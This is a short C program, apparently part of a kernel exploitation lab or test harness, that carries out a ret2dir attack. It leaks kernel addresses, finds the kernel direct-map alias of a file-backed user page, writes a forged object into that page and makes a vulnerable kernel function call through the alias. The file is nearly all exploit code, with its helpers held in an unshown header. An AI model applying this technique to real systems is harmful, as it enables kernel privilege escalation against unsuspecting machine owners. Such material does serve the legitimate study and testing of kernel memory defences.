/* ret2dir with a page that came with a file: the kernel never had to map it to fill it. */
#include "attack.h"

int main(void)
{
	struct bw_leak leak;
	void *page = attack_file_page();
	uint64_t synonym;

	attack_leak(&leak);
	synonym = attack_synonym(&leak, page);
	payload_object(page, synonym, &leak);
	attack_say("forged object at 0x%lx, in frame 0x%lx, which holds a page of this program",
		   (uintptr_t)page, attack_pfn(page));
	attack_say("the kernel calls through the same bytes at 0x%lx", synonym);
	attack_check("vuln_call", bw_vuln_call(synonym));
	return attack_finish();
}
